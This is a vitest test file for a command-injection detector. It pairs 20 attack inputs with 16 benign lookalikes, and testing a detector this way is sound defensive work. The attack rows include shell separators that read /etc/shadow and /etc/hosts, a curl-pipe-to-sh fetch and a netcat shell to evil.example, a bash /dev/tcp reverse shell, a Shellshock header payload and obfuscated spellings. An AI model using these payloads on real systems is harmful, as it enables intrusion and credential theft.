// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the rows are what attackers and templates send
import { expect, test } from 'vitest';
import { command } from './command.ts';
import { missed, type Row, refused } from './rows.fixture.ts';

const attacks: readonly Row[] = [
  ['query host', '192.0.2.1; cat /etc/hosts'],
  ['query host', '192.0.2.1 && whoami'],
  ['query host', '192.0.2.1|id'],
  ['query host', '`uname -a`'],
  ['query host', '$(curl http://evil.example/a|sh)'],
  ['query host', 'x\n/usr/bin/id'],
  ['query f', 'cat${IFS}/etc/shadow'],
  ['query f', "c''at /etc/shadow|wc"],
  ['query f', '/???/c?t /e??/p??swd'],
  ['query f', '{cat,/etc/hosts}'],
  ['header user-agent', '() { :; }; /bin/sh -c "sleep 4"'],
  ['body cmd', 'nc -e /bin/sh evil.example 4444'],
  ['body cmd', 'bash -i >& /dev/tcp/192.0.2.1/99 0>&1'],
  ['query f', 'x & ping -n 9 192.0.2.1'],
  ['query f', '| dir c:\\'],
  ['query f', 'powershell -enc SQBFAFgA'],
  ['query f', 'cmd /c ver'],
  ['query f', 'whoami'],
  ['query f', ';sleep 9'],
  ['query f', 'echo pwned > /var/www/a.txt'],
];
const ordinary: readonly Row[] = [
  ['query q', 'salt & pepper'],
  ['query q', 'cats; dogs; birds'],
  ['query q', 'find a host | compare prices'],
  ['query q', 'who; what; where'],
  ['query q', 'sleep well'],
  ['body $.title', 'Cut & paste: sort and type'],
  ['body $.price', '$(100) off'],
  ['query pattern', 'restored_$1'],
  ['body $.note free-text', 'Line one\nid card\nls 300 is a car\ntime to go; cat is fed'],
  ['body $.commands code', '#!/bin/sh\nset -x\ncat /proc/meminfo\n'],
  ['header accept', 'text/html,application/xhtml+xml,*/*;q=0.8'],
  ['header user-agent', 'Mozilla/5.0 (Linux; Android 14; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130 Mobile'],
  ['query q', 'node | express | php jobs'],
  ['cookie theme', 'dark; path=/'],
  ['query q', 'echo in the hall'],
  ['body $.media', 'data:image/png;base64,iVBORw0KGgo='],
];

test('separators, substitutions, spellings and shells of both worlds are found', () => {
  expect(attacks).toHaveLength(20);
  expect(missed(command, attacks)).toEqual([]);
});

test('lists, ampersands, prose and fields that are for commands pass', () => {
  expect(ordinary).toHaveLength(16);
  expect(refused(command, ordinary)).toEqual([]);
});
